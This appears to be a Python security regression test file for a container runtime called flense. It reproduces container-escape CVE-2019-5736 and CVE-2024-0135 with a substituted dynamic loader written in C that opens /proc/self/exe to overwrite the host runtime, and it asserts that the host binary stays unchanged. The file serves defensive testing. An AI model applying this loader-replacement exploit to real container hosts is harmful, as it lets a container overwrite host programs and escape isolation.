#!/usr/bin/env python3
"""CVE-2019-5736 and CVE-2024-0135: a program of the host that runs in a container is overwritten through /proc/self/exe.
The engine and flense belong to the caller here, so that nothing but their defences keeps them."""

import os
import platform
import subprocess
import time

import attack
from attack import in_modes

# In the place of the image's dynamic loader: the kernel starts it for whatever dynamic program is executed, as which
# it finds itself in /proc/self/exe. It keeps that, and becomes a program that writes there.
LOADER = r"""
static long call(long n, long a, long b, long c) {
  long r;
  __asm__ volatile("syscall" : "=a"(r) : "a"(n), "D"(a), "S"(b), "d"(c) : "memory", "rcx", "r11");
  return r;
}
void _start(void) {
  static char exe[] = "/proc/self/exe", probe[] = "/bin/probe", what[] = "overwrite", fd[] = "0";
  static char* words[] = {probe, what, fd, 0};
  fd[0] += call(2, (long)exe, 0, 0);
  call(59, (long)probe, (long)words, 0);
  call(231, 9, 0, 0);
}
"""


class EngineBinary(attack.Attack):
    def setUp(self):
        super().setUp()
        if platform.machine() != "x86_64":
            self.skipTest("the loader's stand-in is of x86_64")
        os.chown(self.binary, self.caller(), self.caller())

    def loader(self):
        path = self.path("loader")
        subprocess.run(["gcc", "-x", "c", "-", "-O1", "-static", "-nostdlib", "-fno-stack-protector", "-no-pie", "-o", path],
                       input=LOADER.encode(), check=True)
        return path

    def programs(self, folder):
        return {path: attack.harness.file_digest(path) for path in (self.binary, f"{folder}/real")}

    @in_modes()
    def test_cve_2019_5736_command(self, mode):
        layer = (attack.layer().file("bin/self", "#!/proc/self/exe\n", 0o755).symlink("bin/exe", "/proc/self/exe")
                 .folder("lib64").disk_file("lib64/ld-linux-x86-64.so.2", self.loader()))
        image = self.archive(layer, "self.tar", command=("/bin/self",))
        folder, _ = self.engine()
        before = self.programs(folder)
        for command in (["/bin/self"], ["/bin/exe"], ["/proc/self/exe"], ["/proc/1/exe"], []):
            result = self.attack(*mode, image, *command, env={"PATH": f"{folder}:{os.environ['PATH']}"})
            time.sleep(0.05)  # for what stays behind
            self.assertEqual(self.programs(folder), before, result.out)
            # Or somebody had none of it: flense, crun, or crun as it found itself in a container.
            self.assertTrue("overwrite " in result.out or result.status != 0, result.out + result.err)

    @in_modes()
    def test_cve_2019_5736_exec(self, mode):
        """The program that joins a container can be seen by what waits there."""
        folder, _ = self.engine()
        before = self.programs(folder)
        env = {"PATH": f"{folder}:{os.environ['PATH']}"}
        process = self.start("run", "--name", "job", *mode, self.image, "sh", "-c", "echo up; probe watch 600", env=env)
        self.addCleanup(attack.test_run.Run.end, process)
        self.assertEqual(process.stdout.readline(), b"up\n")
        joined = 0
        while process.poll() is None:
            joined += self.done(self.start("exec", "job", "sleep", "0.05", env=env), None).status == 0
        self.assertGreater(joined, 1)
        seen = self.done(process).out
        self.check_host()
        self.assertEqual(self.programs(folder), before, seen)
        self.assertIn("saw /bin/busybox", seen)  # it did see what exec started

    @in_modes()
    def test_cve_2024_0135_program_in_the_container(self, mode):
        """flense itself is in the container where it binds the command to processors: as the toolkit's ldconfig was."""
        if len(os.sched_getaffinity(0)) < 2:
            self.skipTest("needs two processors")
        folder, _ = self.engine(version="1.14.0")  # that sets processors back; so flense renews them inside
        before = self.programs(folder)
        one = ["taskset", "-c", str(min(os.sched_getaffinity(0)))]
        script = ("echo started; ls /run/flense; probe open r /run/flense/place; probe open w /run/flense/place; "
                  "chmod 777 /run/flense/place; rm -f /run/flense/place; echo x > /run/flense/place; probe watch 50")
        result = self.attack(*mode, self.image, "sh", "-c", script, env={"PATH": f"{folder}:{os.environ['PATH']}"},
                             under=one, expect=0)
        self.assertIn(["r", "/run/flense/place", "opened"], [words[:3] for words in self.facts(result.out, "open")])
        self.assertNotIn("wrote", result.out)
        self.assertEqual(self.programs(folder), before, result.out)
        self.assertTrue(os.access(self.binary, os.X_OK))
        # And as the loader of what it becomes.
        layer = attack.layer().folder("lib64").disk_file("lib64/ld-linux-x86-64.so.2", self.loader())
        image = self.archive(layer.disk_file("bin/dynamic", "/usr/bin/env").file("bin/self", "#!/run/flense/place\n", 0o755),
                             "dynamic.tar")
        for command in ("/bin/dynamic", "/bin/self", "/run/flense/place"):
            result = self.attack(*mode, image, command, env={"PATH": f"{folder}:{os.environ['PATH']}"}, under=one)
            self.assertEqual(self.programs(folder), before, result.out)


class EngineBinaryAsUser(EngineBinary):
    uid = attack.USER


if __name__ == "__main__":
    attack.main()
